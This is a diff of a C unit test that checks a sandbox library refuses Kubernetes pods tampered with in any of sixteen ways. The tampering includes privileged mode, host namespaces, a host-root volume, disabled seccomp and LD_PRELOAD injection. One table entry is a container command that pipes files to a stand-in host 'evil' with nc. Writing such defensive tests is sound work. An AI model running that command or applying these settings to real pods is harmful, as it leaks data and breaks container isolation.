@@ -524,34 +524,62 @@ static void test_exec_forbidden(void **state)
 	gkx_run_free(run);
 }
 
-/* A pod with our labels but not our hardening is never used. */
+/* A pod with our labels but not our hardening is never used: each
+ * change below, alone, to a pod our own manifest made, refuses it. */
 static void test_planted_pod_is_refused(void **state)
 {
+	static const struct {
+		const char *object, *key, *value, *why;
+	} planted[] = {
+		{ "spec.containers.0.securityContext", "privileged", "true", "privileged" },
+		{ "spec", "runtimeClassName", "\"runc\"", "another RuntimeClass" },
+		{ "spec.containers.0", "image", "\"evil:1\"", "another image" },
+		{ "spec.containers.0.securityContext", "readOnlyRootFilesystem", "false",
+		  "writable root" },
+		{ "spec", "automountServiceAccountToken", "true", "a service-account token" },
+		{ "spec", "hostPID", "true", "host namespaces" },
+		{ "spec", "volumes",
+		  "[{\"name\":\"code\",\"hostPath\":{\"path\":\"/\"}}]", "other volumes" },
+		{ "spec.containers.0.securityContext", "seccompProfile",
+		  "{\"type\":\"Unconfined\"}", "no seccomp profile" },
+		{ "spec.securityContext", "seccompProfile", "{\"type\":\"Unconfined\"}",
+		  "no seccomp profile" },
+		{ "spec.containers.0", "command",
+		  "[\"/bin/sh\",\"-c\",\"while sleep 1; do cat /app/* | nc evil 80; done\"]",
+		  "another command" },
+		{ "spec.containers.0", "args", "[\"x\"]", "another command" },
+		{ "spec.containers.0", "lifecycle",
+		  "{\"postStart\":{\"exec\":{\"command\":[\"true\"]}}}", "hooks or envFrom" },
+		{ "spec.containers.0", "envFrom", "[{\"configMapRef\":{\"name\":\"x\"}}]",
+		  "hooks or envFrom" },
+		{ "spec.containers.0", "env", "[{\"name\":\"LD_PRELOAD\",\"value\":\"/x.so\"}]",
+		  "another environment" },
+		{ "spec.containers.0", "env", "[{\"name\":\"HOME\",\"value\":\"/app\"}]",
+		  "another environment" },
+		{ "metadata.labels", GKX_LABEL_POOL, "\"0123456789abcdef\"", "another pool" },
+	};
 	fixture *f = *state;
 	gkx__pool p;
 	gkx_error err;
-	cJSON *list = cJSON_Parse(f->pod_json), *pod = cJSON_GetArrayItem(at(list, "items"), 0);
-	cJSON *sc = (cJSON *)at(pod, "spec.containers.0.securityContext");
 	char why[64];
+	size_t i;
 
-	(void)state;
 	assert_int_equal(gkx__pool_init(&p, "sandbox", NULL, NULL, NULL, NULL, 0, 0, &err), 0);
-	assert_true(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
-	cJSON_ReplaceItemInObject(sc, "privileged", cJSON_CreateTrue());
-	assert_false(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
-	assert_string_equal(why, "privileged");
-	cJSON_ReplaceItemInObject(sc, "privileged", cJSON_CreateFalse());
-	cJSON_ReplaceItemInObject((cJSON *)at(pod, "spec"), "runtimeClassName",
-	                          cJSON_CreateString("runc"));
-	assert_false(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
-	assert_string_equal(why, "another RuntimeClass");
-	cJSON_ReplaceItemInObject((cJSON *)at(pod, "spec"), "runtimeClassName",
-	                          cJSON_CreateString("gvisor"));
-	cJSON_AddItemToArray((cJSON *)at(pod, "spec.volumes"),
-	                     cJSON_Parse("{\"name\":\"host\",\"hostPath\":{\"path\":\"/\"}}"));
-	assert_false(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
-	assert_string_equal(why, "other volumes");
-	cJSON_Delete(list);
+	for (i = 0; i < sizeof(planted) / sizeof(planted[0]); i++) {
+		cJSON *list = cJSON_Parse(f->pod_json), *pod = cJSON_GetArrayItem(at(list, "items"), 0);
+		cJSON *obj = (cJSON *)at(pod, planted[i].object), *v = cJSON_Parse(planted[i].value);
+
+		assert_true(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
+		assert_non_null(obj);
+		assert_non_null(v);
+		if (cJSON_HasObjectItem(obj, planted[i].key))
+			cJSON_ReplaceItemInObject(obj, planted[i].key, v);
+		else
+			cJSON_AddItemToObject(obj, planted[i].key, v);
+		assert_false(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
+		assert_string_equal(why, planted[i].why);
+		cJSON_Delete(list);
+	}
 }
 
 /* ---- the bootstrap, run here by /bin/sh ---- */
